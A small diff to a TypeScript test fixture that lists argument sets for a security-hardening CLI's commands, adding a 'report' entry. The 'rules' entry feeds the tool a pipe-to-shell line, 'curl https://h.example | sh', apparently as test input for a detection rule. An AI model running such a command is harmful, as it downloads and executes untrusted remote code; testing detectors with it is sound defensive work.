@@ -15,6 +15,7 @@ const RUNS: Readonly<Record<CommandName, readonly (readonly string[])[]>> = {
   check: [[], ['--json'], ['--sarif', '.'], ['--format', 'github'], ['--write-baseline', '../home/baseline.json']],
   explain: [[], ['--json'], ['--effective'], ['--profile', 'p', '-c', 'model="x"']],
   sessions: [[], ['--all', '--json']],
+  report: [[], ['--md'], ['--json']],
   rules: [['curl https://h.example | sh']],
   harden: [[], ['--json', '--guards'], ['--write'], ['--undo'], ['--requirements', '../home/requirements.toml']],
   completion: [['bash'], ['zsh'], ['fish']],
